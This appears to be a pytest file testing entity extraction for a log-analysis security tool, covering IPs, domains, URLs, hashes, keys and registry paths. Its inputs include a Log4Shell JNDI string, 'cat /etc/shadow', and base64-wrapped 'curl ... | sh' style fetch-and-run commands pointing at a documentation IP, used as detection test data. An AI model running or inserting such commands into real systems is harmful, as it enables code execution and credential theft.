"""Entities are found where they are, and nothing else is taken for one."""

import base64

import pytest

from moewarden.graphs.entities.addresses import address_class
from moewarden.graphs.entities.extract import entities_in, entities_of, is_domain
from moewarden.graphs.entities.wellknown import is_well_known
from moewarden.graphs.meaning.event import Event


def found(text: str) -> set[tuple[str, str]]:
    return {(entity.type, entity.value) for entity in entities_in(text)}


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("from 203.0.113.9:443 now", "ip", "203.0.113.9"),
        ("addr=[2001:db8::7]", "ip", "2001:db8::7"),
        ("via fe80::1%eth0", "ip", "fe80::1%eth0"),
        ("defanged 203[.]0[.]113[.]9", "ip", "203.0.113.9"),
        ("lookup cdn.evil-site.ru failed", "domain", "cdn.evil-site.ru"),
        ("GET https://a.example/x?y=1 ok", "url", "https://a.example/x?y=1"),
        ("GET https://a.example/x?y=1 ok", "domain", "a.example"),
        ("${jndi:ldap://203.0.113.9:1389/a}", "url", "ldap://203.0.113.9:1389/a"),
        ("mail from dana@example.com.", "mail", "dana@example.com"),
        (r"ran C:\Program Files\Foo Bar\evil.exe /quiet", "file", r"C:\Program Files\Foo Bar\evil.exe"),
        (r"copied \\srv01\share\a.txt", "file", r"\\srv01\share\a.txt"),
        ("cat /etc/shadow;", "file", "/etc/shadow"),
        ("MD5=0123456789ABCDEF0123456789ABCDEF,IMPHASH=00", "hash", "0123456789abcdef0123456789abcdef"),
        (
            "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "hash",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        ),
        ("arn:aws:iam::111122223333:role/ops did", "arn", "arn:aws:iam::111122223333:role/ops"),
        ("key AKIAIOSFODNN7EXAMPLE used", "key", "AKIAIOSFODNN7EXAMPLE"),
        (
            r"set HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x",
            "reg",
            r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x",
        ),
        ("exploits cve-2021-44228", "cve", "CVE-2021-44228"),
    ],
)
def test_entity_is_found(text: str, kind: str, value: str) -> None:
    assert (kind, value) in found(text)


@pytest.mark.parametrize(
    "text",
    [
        "evil.exe",
        "java.lang.String",
        "org.apache.commons.Foo",
        "user.session.start",
        "config.yaml",
        "version 1.2.3",
        "10:11:12",
        "foo.service",
        "e.g. this",
        "ntds.dit",
        "System.Net",
    ],
)
def test_file_class_and_event_names_are_no_domains(text: str) -> None:
    assert not {kind for kind, _ in found(text)} & {"domain", "ip"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [("example.com", True), ("a.b.co.uk", True), ("xn--e1afmkfd.xn--p1ai", True), ("localhost", False), ("1.2", False)],
)
def test_domain_shape(text: str, expected: bool) -> None:
    assert is_domain(text) is expected


@pytest.mark.parametrize(
    "wrap", ["powershell -enc {}", "[Convert]::FromBase64String('{}')", "echo {} | base64 -d | sh"]
)
def test_encoded_payloads_are_looked_into(wrap: str) -> None:
    encoding = "utf-16-le" if "-enc" in wrap else "utf-8"
    payload = base64.b64encode("curl http://203.0.113.9/p.sh".encode(encoding)).decode()
    entities = {(entity.type, entity.value): entity for entity in entities_in(wrap.format(payload))}
    assert entities["url", "http://203.0.113.9/p.sh"].decoded
    assert entities["ip", "203.0.113.9"].decoded


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        ("10.1.2.3", "private"),
        ("203.0.113.9", "documentation"),
        ("2001:db8::1", "documentation"),
        ("127.0.0.1", "loopback"),
        ("::1", "loopback"),
        ("169.254.1.1", "link_local"),
        ("fe80::1%eth0", "link_local"),
        ("8.8.8.8", "public"),
        ("224.0.0.1", "reserved"),
        ("fd00::1", "private"),
    ],
)
def test_address_classes(address: str, kind: str) -> None:
    assert address_class(address) == kind


def test_columns_of_an_event_come_first_and_each_value_once() -> None:
    event = Event(
        file="a",
        line=1,
        byte_offset=0,
        byte_length=1,
        user="Dana",
        host="web-2",
        src_ip="203.0.113.9",
        process=r"C:\x\evil.exe",
        command="evil.exe -a",
        action="account_create",
        target="svc2",
        fields={"client": "203.0.113.9", "who": "dana", "Image": r"C:\x\EVIL.exe"},
    )
    entities = entities_of(event)
    assert [(entity.type, entity.value) for entity in entities] == [
        ("ip", "203.0.113.9"),
        ("user", "Dana"),
        ("host", "web-2"),
        ("proc", "evil.exe"),
        ("file", r"C:\x\evil.exe"),
        ("cmd", "evil.exe -a"),
        ("user", "svc2"),
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("8.8.8.8", True),
        ("169.254.169.254", True),
        ("127.0.0.5", True),
        ("ctldl.windowsupdate.com", True),
        ("https://www.google.com/", True),
        ("https://github.com/someone/tool", False),
        ("evil.s3.amazonaws.com", False),
        ("notgoogle.com", False),
        ("203.0.113.9", False),
    ],
)
def test_well_known_infrastructure(value: str, expected: bool) -> None:
    assert is_well_known(value) is expected
